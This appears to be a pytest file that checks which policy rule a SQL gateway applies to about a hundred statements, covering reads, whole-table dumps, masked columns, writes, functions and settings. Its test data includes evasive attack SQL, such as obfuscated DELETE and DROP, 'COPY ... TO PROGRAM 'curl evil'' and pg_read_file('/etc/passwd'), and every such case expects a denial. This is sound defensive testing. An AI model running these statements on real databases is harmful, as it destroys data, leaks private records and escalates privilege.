"""What the default policy and the gateway say of a statement as somebody types it: text in, rule or code out."""

from __future__ import annotations

import json

import pytest

from extproc.errors import Refusal
from extproc.policy.decision import read_decision
from extproc.policy.embedded import EmbeddedEngine
from extproc.postgres.operation import SqlOperation
from extproc.postgres.sql.analyse import analyse
from tests.integration.gateway import ROOT
from tests.integration.sql_questions import question
from tests.unit.postgres.sql.shop import shop

SHOP = shop()
PASS = "customers.read"
SAID: tuple[tuple[str, str], ...] = (
    # reads
    ("SELECT id, name, email, ssn FROM customers WHERE id = 7", PASS),
    ("SELECT * FROM customers WHERE city = $1 ORDER BY name LIMIT 20", PASS),
    ("SELECT * FROM customers LIMIT 100", PASS),
    ("TABLE customers LIMIT 5", PASS),
    ("SELECT count(*) FROM customers", PASS),
    ("SELECT city, count(*) FROM customers WHERE born < '1990-01-01' GROUP BY city", PASS),
    ("SELECT c.name, o.product FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.id = 7", PASS),
    ("WITH few AS (SELECT id, name FROM customers WHERE id < 9) SELECT name FROM few", PASS),
    ("SELECT name, now(), random(), gen_random_uuid() FROM customers WHERE id = 7", PASS),
    ("SELECT 1", PASS),
    ("", PASS),
    (";;", PASS),
    ("BEGIN READ ONLY; SELECT name FROM customers WHERE id = 7; COMMIT", PASS),
    ("DECLARE c CURSOR FOR SELECT name FROM customers WHERE id < 1000", PASS),
    ("PREPARE p AS SELECT name FROM customers WHERE id = $1", PASS),
    # whole tables
    ("SELECT * FROM customers", "customers.whole_table"),
    ("TABLE customers", "customers.whole_table"),
    ("SELECT name FROM customers", "customers.whole_table"),
    ("SELECT name FROM customers LIMIT 101", "customers.whole_table"),
    ("SELECT name FROM customers LIMIT ALL", "customers.whole_table"),
    ("SELECT name FROM customers LIMIT $1", "customers.whole_table"),
    ("SELECT name FROM customers WHERE true", "customers.whole_table"),
    ("SELECT name FROM customers WHERE 1 = 1 -- LIMIT 1", "customers.whole_table"),
    ("SELECT/**/name/**/FROM/**/customers", "customers.whole_table"),
    ('SELECT name FROM "public"."customers"', "customers.whole_table"),
    ("SELECT string_agg(name, ',') FROM customers LIMIT 1", "customers.whole_table"),
    ("SELECT name FROM customers UNION ALL SELECT name FROM customers WHERE id = 1", "customers.whole_table"),
    ("WITH every AS (SELECT name FROM customers) SELECT name FROM every", "customers.whole_table"),
    ("DECLARE c CURSOR FOR SELECT name FROM customers", "customers.whole_table"),
    ("PREPARE p AS SELECT name FROM customers", "customers.whole_table"),
    ("SELECT 1; SELECT * FROM customers", "customers.whole_table"),
    # masked columns: the gateway's own refusal
    ("SELECT name FROM customers WHERE ssn = '078-05-1120'", "column_protected"),
    ("SELECT name FROM customers WHERE id < 9 ORDER BY email", "column_protected"),
    ("SELECT upper(email) FROM customers WHERE id = 1", "column_protected"),
    ("SELECT count(DISTINCT ssn) FROM customers WHERE id < 100", "column_protected"),
    ("SELECT DISTINCT ssn FROM customers WHERE id < 100", "column_protected"),
    ("SELECT a.name FROM customers a JOIN customers b USING (ssn) WHERE a.id = 1", "column_protected"),
    ("SELECT c::text FROM customers c WHERE id = 1", "column_protected"),
    ("SELECT row_to_json(c) FROM customers c WHERE id = 1", "column_protected"),
    ("SELECT ssn::int FROM customers WHERE id = 1", "column_protected"),
    # writes, wherever they stand
    ("DELETE FROM customers WHERE id = 1", "sql.read_only"),
    ("WITH gone AS (DELETE FROM customers RETURNING id) SELECT * FROM gone", "sql.read_only"),
    ("SELECT 1; DELETE FROM customers", "sql.read_only"),
    ("-- SELECT 1;\rDELETE FROM customers", "sql.read_only"),
    ("/* SELECT 1 */ dElEtE/**/FROM/**/customers", "sql.read_only"),
    (r'DELETE FROM U&"\0063ustomers"', "sql.read_only"),
    ("INSERT INTO orders SELECT * FROM orders", "sql.read_only"),
    ("UPDATE customers SET name = ssn", "sql.read_only"),
    ("SELECT * INTO copy FROM customers", "sql.read_only"),
    ("CREATE TABLE copy AS SELECT ssn FROM customers", "sql.read_only"),
    ("CREATE TEMP VIEW v AS SELECT ssn FROM customers", "sql.read_only"),
    ("DO $$BEGIN EXECUTE 'DROP TABLE customers'; END$$", "sql.read_only"),
    ("DO 'BEGIN DROP TABLE customers; END'", "sql.read_only"),
    ("DROP TABLE customers", "sql.read_only"),
    ("TRUNCATE customers", "sql.read_only"),
    ("COPY customers FROM STDIN", "sql.read_only"),
    ("COPY customers TO PROGRAM 'curl evil'", "sql.read_only"),
    ("COPY customers TO '/tmp/x'", "sql.read_only"),
    ("COPY (DELETE FROM customers RETURNING *) TO STDOUT", "sql.read_only"),
    ("BEGIN READ WRITE", "sql.read_only"),
    ("SET TRANSACTION READ WRITE", "sql.read_only"),
    ("LOCK TABLE customers", "sql.read_only"),
    ("LISTEN a", "sql.read_only"),
    ("NOTIFY a, 'b'", "sql.read_only"),
    ("PREPARE TRANSACTION 'x'", "sql.read_only"),
    ("PREPARE p AS DELETE FROM customers", "sql.read_only"),
    ("EXPLAIN ANALYZE DELETE FROM customers", "sql.read_only"),
    ("ANALYZE customers", "sql.read_only"),
    ("LOAD 'evil'", "sql.read_only"),
    ("ALTER TABLE customers ADD x int", "sql.read_only"),
    ("GRANT ALL ON customers TO public", "sql.read_only"),
    # functions
    ("SELECT purge()", "sql.read_only"),
    ("SELECT public.pick('a'::text)", "sql.read_only"),
    ("SELECT double(2)", "sql.function"),
    ("SELECT pg_sleep(10)", "sql.function"),
    ("SELECT pg_read_file('/etc/passwd')", "sql.function"),
    ("SELECT name FROM customers TABLESAMPLE SYSTEM (1) WHERE id = 1", "sql.function"),
    ("SELECT name FROM customers WHERE name === 'a'", "sql.function"),
    # other tables, statistics, plans
    ("SELECT salary FROM hr.staff WHERE id = 1", "sql.table"),
    ("SELECT name FROM contacts WHERE id = 1", "sql.table"),
    ("EXPLAIN SELECT name FROM customers WHERE id = 1", "sql.explain"),
    ("EXPLAIN ANALYZE SELECT 1", "sql.explain"),
    ("EXPLAIN SELECT 1", PASS),
    ("SELECT name FROM customers WHERE ctid = '(0,1)'", "sql.statistics"),
    ("SELECT xmin, name FROM customers WHERE id = 1", "sql.statistics"),
    # settings
    ("SET application_name = 'a'; SET TIME ZONE 'UTC'; SET LOCAL statement_timeout = '5s'", PASS),
    ("SET client_encoding = 'UTF8'; SET NAMES 'utf8'; SET standard_conforming_strings = on", PASS),
    ("SET client_encoding = 'SJIS'", "sql.setting"),
    ("SET standard_conforming_strings = off", "sql.setting"),
    ("SET ROLE postgres", "sql.setting"),
    ("SET SESSION AUTHORIZATION postgres", "sql.setting"),
    ("SET debug_print_plan = on", "sql.setting"),
    ("SET client_min_messages = debug5", "sql.setting"),
    ("SELECT set_config('jit', 'off', false)", PASS),
    ("SELECT set_config('role', 'postgres', false)", "sql.setting"),
    ("SELECT set_config('standard_' || 'conforming_strings', 'off', false)", "sql.unsure"),
    # exports
    ("COPY customers TO STDOUT", "customers.export"),
    ("COPY customers (id, name) TO STDOUT (FORMAT csv, HEADER)", "customers.export"),
    ("COPY (SELECT name FROM customers) TO STDOUT", "customers.export"),
    ("COPY (SELECT name FROM customers WHERE id < 9) TO STDOUT", "customers.export"),
    ("COPY hr.staff TO STDOUT", "sql.table"),
    ("COPY (SELECT upper(ssn) FROM customers) TO STDOUT", "column_protected"),
    # what cannot be known
    ("SELECT nobody FROM customers WHERE id = 1", "sql.unsure"),
    ("SELECT * FROM nothing", "sql.table"),
)  # fmt: skip


@pytest.fixture(scope="module")
def engine() -> EmbeddedEngine:
    return EmbeddedEngine(ROOT / "rego" / "policy")


@pytest.mark.parametrize(("text", "expected"), SAID)
def test_what_is_said_of_a_statement(engine: EmbeddedEngine, text: str, expected: str) -> None:
    analysis = analyse(text, SHOP)
    document = question(json.loads(analysis.facts))
    decision = read_decision(*engine.evaluate(json.dumps(document).encode()))
    said = decision.rule
    if decision.action != "deny":
        try:
            SqlOperation(text, analysis, "simple", "execute", "shop", "job", (), "").require_possible(decision)
        except Refusal as refusal:
            said = refusal.code.name
    assert said == expected, decision.reason
